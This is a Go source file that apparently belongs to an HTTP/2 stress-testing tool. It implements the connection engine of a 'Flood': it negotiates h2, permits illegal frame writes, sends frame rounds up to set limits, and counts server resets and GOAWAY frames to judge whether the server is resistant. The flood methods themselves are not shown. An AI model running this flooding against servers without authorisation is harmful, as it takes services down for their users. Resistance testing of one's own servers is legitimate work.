package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	h2 "golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	maxFloodBytes = 1 << 30     // limit after which a connection of a Flood is slow
	maxFloodFrame = 16 << 10    // accepted by every peer
	introTimeout  = time.Minute // time for the server's first frames
)

// flooding is a connection of a Flood. The fields above the channels belong to the sending goroutine.
type flooding struct {
	flood  *Flood
	method *method
	conn   net.Conn
	scheme string
	out    counted
	framer *h2.Framer
	began  time.Time
	lasted time.Duration

	encoder *hpack.Encoder
	head    bytes.Buffer // output of encoder
	field   []byte
	stream  uint32 // the last opened stream
	streams int    // number of opened streams

	maxStreams, maxHead int // announced by the server

	pings chan [8]byte  // received from the server, to be answered
	gone  chan struct{} // closed when the server has ended the connection

	mu       sync.Mutex
	kept     []uint32 // the streams to keep open, ascending
	code     string   // error code of GOAWAY
	resets   int
	answers  int
	received int64
}

// open connects and exchanges the first frames, so that a server that does not speak HTTP/2 does not count as
// resistant.
func (f *Flood) open(ctx context.Context) (_ *flooding, err error) {
	conn, err := f.Dial(ctx)
	if err != nil {
		return nil, err
	}
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer func() {
		if !stop() && err == nil {
			err = ctx.Err()
		}
		if err != nil {
			_ = conn.Close()
		}
	}()
	c := &flooding{
		flood: f, method: &methods[f.Kind], conn: conn, scheme: "http", began: time.Now(),
		maxStreams: 100, maxHead: 256 << 10, // if the server sets no limits
		pings: make(chan [8]byte, 16), gone: make(chan struct{}),
	}
	raw := conn
	if secure, ok := conn.(*tls.Conn); ok {
		if err := secure.HandshakeContext(ctx); err != nil {
			return nil, err
		}
		if protocol := secure.ConnectionState().NegotiatedProtocol; protocol != "h2" {
			return nil, fmt.Errorf("flood: negotiated protocol %q; NextProtos must have \"h2\" on both sides", protocol)
		}
		raw, c.scheme = secure.NetConn(), "https"
	}
	if small, ok := raw.(interface{ SetReadBuffer(bytes int) error }); ok && c.method.deaf {
		_ = small.SetReadBuffer(2048) // otherwise the system buffers for this client
	}
	c.out.Writer = bufio.NewWriterSize(conn, 2*maxFloodFrame)
	c.framer = h2.NewFramer(&c.out, conn)
	c.framer.AllowIllegalWrites = true
	c.framer.SetReuseFrames()
	c.encoder = hpack.NewEncoder(&c.head)
	if err := c.introduce(); err != nil {
		return nil, fmt.Errorf("flood: the server does not speak HTTP/2: %w", err)
	}
	return c, nil
}

// introduce sends the first frames and waits for those of the server.
func (c *flooding) introduce() error {
	_, err := io.WriteString(c.out.Writer, h2.ClientPreface)
	if err := errors.Join(err, c.framer.WriteSettings(c.method.settings...), c.out.Flush()); err != nil {
		return err
	}
	_ = c.conn.SetReadDeadline(time.Now().Add(introTimeout))
	frame, err := c.framer.ReadFrame()
	if err != nil {
		return err
	}
	settings, ok := frame.(*h2.SettingsFrame)
	if !ok || settings.IsAck() {
		return fmt.Errorf("it began with %s", frame.Header())
	}
	if n, ok := settings.Value(h2.SettingMaxConcurrentStreams); ok {
		c.maxStreams = int(n)
	}
	if n, ok := settings.Value(h2.SettingMaxHeaderListSize); ok {
		c.maxHead = int(min(n, 1<<20))
	}
	c.maxStreams = min(c.maxStreams, c.flood.Streams)
	return errors.Join(c.framer.WriteSettingsAck(), c.out.Flush(), c.conn.SetReadDeadline(time.Time{}))
}

// run sends until the server ends the connection, which it reports, or ctx ends.
func (c *flooding) run(ctx context.Context) (ended bool) {
	stop := context.AfterFunc(ctx, func() { _ = c.conn.Close() })
	defer stop()
	var reader sync.WaitGroup
	if !c.method.deaf {
		reader.Go(c.read)
	}
	c.send(ctx)
	ended = ctx.Err() == nil
	c.lasted = time.Since(c.began)
	if ended { // the server may have sent an error
		_ = c.conn.SetReadDeadline(time.Now().Add(time.Second))
		if c.method.deaf {
			c.read()
		}
		reader.Wait()
	}
	_ = c.conn.Close()
	reader.Wait()
	return ended
}

// send returns when nothing more can be sent.
func (c *flooding) send(ctx context.Context) {
	if c.method.begin != nil {
		if err := c.method.begin(c); err != nil && !errors.Is(err, errFull) {
			return
		}
	}
	for ctx.Err() == nil {
		select {
		case <-c.gone:
			return
		case data := <-c.pings:
			if c.framer.WritePing(true, data) != nil {
				return
			}
		default:
		}
		err := c.method.round(c)
		full := errors.Is(err, errFull)
		if err != nil && !full {
			return
		}
		if full || c.method.slow || c.out.frames >= c.flood.Frames || c.out.bytes >= maxFloodBytes {
			if c.out.Flush() != nil || !c.pause(ctx) {
				return
			}
		}
	}
}

// pause waits for the next Interval. It reports whether there is one.
func (c *flooding) pause(ctx context.Context) bool {
	timer := time.NewTimer(c.flood.Interval)
	defer timer.Stop()
	select {
	case <-timer.C:
		return true
	case <-c.gone:
	case <-ctx.Done():
	}
	return false
}

// read counts frames from the server until the connection ends.
func (c *flooding) read() {
	defer close(c.gone)
	for {
		frame, err := c.framer.ReadFrame()
		if err != nil {
			if _, ok := errors.AsType[h2.StreamError](err); ok {
				continue
			}
			return
		}
		if c.count(frame) {
			return
		}
	}
}

// count counts a frame. It reports whether the server ended the connection with an error.
func (c *flooding) count(frame h2.Frame) (away bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	header := frame.Header()
	c.received += 9 + int64(header.Length)
	switch frame := frame.(type) {
	case *h2.GoAwayFrame:
		c.code = frame.ErrCode.String()
		return frame.ErrCode != h2.ErrCodeNo
	case *h2.RSTStreamFrame:
		c.resets++
		c.drop(header.StreamID)
	case *h2.HeadersFrame:
		c.answers++
		if frame.StreamEnded() {
			c.drop(header.StreamID)
		}
	case *h2.DataFrame:
		if frame.StreamEnded() {
			c.drop(header.StreamID)
		}
	case *h2.PingFrame:
		if !frame.IsAck() && !c.method.mute {
			select {
			case c.pings <- frame.Data:
			default:
			}
		}
	}
	return false
}
